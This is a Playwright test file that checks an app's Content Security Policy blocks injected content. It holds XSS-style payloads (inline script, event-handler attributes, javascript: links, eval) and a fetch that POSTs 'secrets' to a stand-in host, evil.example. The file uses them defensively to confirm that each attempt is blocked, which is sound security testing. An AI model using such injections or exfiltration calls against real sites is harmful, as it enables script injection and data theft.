// The Content Security Policy is the last wall if markup ever slipped into the page: it lets only the app's
// own script files run. These tests send the policy to Chromium as `dossier serve` does and then try what an
// injected document would: inline scripts, event-handler attributes, javascript: links, eval, and loading
// from elsewhere. Nothing may run or leave, and each attempt must show up as a policy violation.
import type { Page } from '@playwright/test';
import { test, expect } from './fixtures';

const EXPECTED_POLICY =
  "default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self' data:; font-src 'self'; " +
  "connect-src 'self'; object-src 'none'; base-uri 'none'; frame-ancestors 'none'; form-action 'none'";

interface Violation {
  directive: string;
  blocked: string;
  /** The page has the policy twice, as a header and in a <meta>; each reports what it blocks. */
  fromHeader: boolean;
}

type Watched = Window & { cspViolations: Violation[]; cspSentinel?: string };

/** Opens the app and starts recording the policy's violation reports, dialogs and requests to elsewhere. */
async function openWatched(page: Page, url: string) {
  const dialogs: string[] = [];
  const foreignResponses: string[] = [];
  const foreignFailures: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const isForeign = (address: string) => !address.startsWith(`${new URL(url).origin}/`);
  // Chromium announces a request before the policy stops it; a blocked one fails and never gets an answer.
  page.on('response', (answer) => {
    if (isForeign(answer.url())) foreignResponses.push(answer.url());
  });
  page.on('requestfailed', (request) => {
    if (isForeign(request.url())) foreignFailures.push(`${request.url()} ${request.failure()?.errorText}`);
  });
  const response = await page.goto(url);
  await expect(page.locator('.app[data-ready="true"]')).toBeVisible();
  await page.evaluate((headerPolicy) => {
    const watched = window as unknown as Watched;
    watched.cspViolations = [];
    document.addEventListener('securitypolicyviolation', (event) => {
      watched.cspViolations.push({
        directive: event.effectiveDirective,
        blocked: event.blockedURI,
        fromHeader: event.originalPolicy === headerPolicy,
      });
    });
  }, EXPECTED_POLICY);
  return { response, dialogs, foreignResponses, foreignFailures };
}

/** What the policy sent as the response header reported. */
async function violations(page: Page): Promise<Omit<Violation, 'fromHeader'>[]> {
  const all = await page.evaluate(() => (window as unknown as Watched).cspViolations);
  return all.filter((v) => v.fromHeader).map(({ directive, blocked }) => ({ directive, blocked }));
}

function sentinel(page: Page): Promise<string | undefined> {
  return page.evaluate(() => (window as unknown as Watched).cspSentinel);
}

/** Starts a new attempt: forgets earlier reports, so each step counts only its own. */
function resetViolations(page: Page): Promise<void> {
  return page.evaluate(() => {
    (window as unknown as Watched).cspViolations.length = 0;
  });
}

// Each test starts a `dossier serve` and a page (the slow part), then makes several attempts in steps.
test('the served policy runs only the app’s own script files: nothing injected runs', async ({
  page,
  dossier,
}) => {
  const { response, dialogs } = await openWatched(page, dossier.url);

  await test.step('the policy is sent with the page and allows no inline script or eval', async () => {
    const policy = response?.headers()['content-security-policy'];
    expect(policy).toBe(EXPECTED_POLICY);
    expect(/(?:^|;\s*)script-src ([^;]*)/.exec(policy ?? '')?.[1]).toBe("'self'");
    expect(policy).not.toMatch(/unsafe-inline|unsafe-eval|unsafe-hashes|strict-dynamic|\*/);
    // The page's own <meta> policy says the same for scripts, in case a response ever lost its header.
    const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(meta).toContain("script-src 'self'");
    expect(meta).toContain("object-src 'none'");
    expect(meta).toContain("base-uri 'none'");
  });

  await test.step('an injected inline script does not run', async () => {
    await resetViolations(page);
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = "window.cspSentinel = 'inline script ran'; alert('inline script ran');";
      document.body.append(script);
    });
    await expect.poll(() => violations(page)).toEqual([{ directive: 'script-src-elem', blocked: 'inline' }]);
    expect(await sentinel(page)).toBeUndefined();
  });

  await test.step('inline event handlers do not run', async () => {
    await resetViolations(page);
    await page.evaluate(() => {
      const image = document.createElement('img');
      image.setAttribute('onerror', "window.cspSentinel = 'onerror ran'");
      image.src = 'data:image/png;base64,AAAA';
      document.body.append(image);
      const button = document.createElement('button');
      button.setAttribute('onclick', "window.cspSentinel = 'onclick ran'");
      button.textContent = 'Injected';
      document.body.append(button);
      button.click();
    });
    await expect
      .poll(() => violations(page))
      .toEqual([
        { directive: 'script-src-attr', blocked: 'inline' },
        { directive: 'script-src-attr', blocked: 'inline' },
      ]);
    expect(await sentinel(page)).toBeUndefined();
  });

  await test.step('a javascript: link does not run', async () => {
    await resetViolations(page);
    await page.evaluate(() => {
      const link = document.createElement('a');
      link.href = "javascript:window.cspSentinel = 'javascript: link ran'";
      link.textContent = 'Injected link';
      document.body.append(link);
      link.click();
    });
    await expect.poll(() => violations(page)).toEqual([{ directive: 'script-src-elem', blocked: 'inline' }]);
    expect(await sentinel(page)).toBeUndefined();
  });

  await test.step('eval, new Function and string timers are refused', async () => {
    await resetViolations(page);
    // Run from a timer, outside the evaluation the test harness starts, exactly as page code would.
    const outcomes = await page.evaluate(
      () =>
        new Promise<string[]>((resolve) => {
          setTimeout(() => {
            const tries = [
              () => eval("window.cspSentinel = 'eval ran'"),
              () => new Function("window.cspSentinel = 'Function ran'")(),
              () => (setTimeout as (code: string) => number)("window.cspSentinel = 'string timer ran'"),
            ];
            resolve(
              tries.map((attempt) => {
                try {
                  attempt();
                  return 'ran';
                } catch (error) {
                  return (error as Error).name;
                }
              }),
            );
          }, 0);
        }),
    );
    // A string timer is dropped silently; eval and Function throw.
    expect(outcomes).toEqual(['EvalError', 'EvalError', 'ran']);
    await expect
      .poll(() => violations(page))
      .toEqual(Array(3).fill({ directive: 'script-src', blocked: 'eval' }));
    await page.waitForTimeout(100);
    expect(await sentinel(page)).toBeUndefined();
  });

  expect(dialogs).toEqual([]);
});

test('an injected page can load nothing from elsewhere, send nothing there, nor move the app’s links', async ({
  page,
  dossier,
}) => {
  const { foreignResponses, foreignFailures } = await openWatched(page, dossier.url);

  await test.step('images, scripts, frames, styles, objects and fetches to elsewhere are blocked', async () => {
    await page.evaluate(async () => {
      const image = document.createElement('img');
      image.src = 'http://evil.example/pixel.png';
      document.body.append(image);
      const script = document.createElement('script');
      script.src = 'http://evil.example/payload.js';
      document.body.append(script);
      const frame = document.createElement('iframe');
      frame.src = 'http://evil.example/';
      document.body.append(frame);
      const style = document.createElement('link');
      style.rel = 'stylesheet';
      style.href = 'http://evil.example/style.css';
      document.head.append(style);
      const embedded = document.createElement('object');
      embedded.data = 'http://evil.example/movie.swf';
      document.body.append(embedded);
      await fetch('http://evil.example/collect', { method: 'POST', body: 'secrets' }).catch(() => undefined);
    });
    await expect
      .poll(async () => new Set((await violations(page)).map((v) => v.directive)))
      .toEqual(
        new Set(['img-src', 'script-src-elem', 'frame-src', 'style-src-elem', 'object-src', 'connect-src']),
      );
    // Chromium announces a request before the policy stops it: each failed as "csp", none was answered.
    expect(foreignResponses).toEqual([]);
    expect(foreignFailures.length).toBeGreaterThan(0);
    for (const failure of foreignFailures) expect(failure).toMatch(/ csp$/);
    expect(await sentinel(page)).toBeUndefined();
  });

  await test.step('an injected <base> cannot redirect the app’s own links', async () => {
    await resetViolations(page);
    const resolved = await page.evaluate(() => {
      const base = document.createElement('base');
      base.href = 'http://evil.example/';
      document.head.prepend(base);
      const link = document.createElement('a');
      link.href = 'documents';
      return link.href;
    });
    expect(new URL(resolved).origin).toBe(new URL(dossier.url).origin);
    await expect
      .poll(() => violations(page))
      .toContainEqual({ directive: 'base-uri', blocked: 'http://evil.example/' });
  });
});
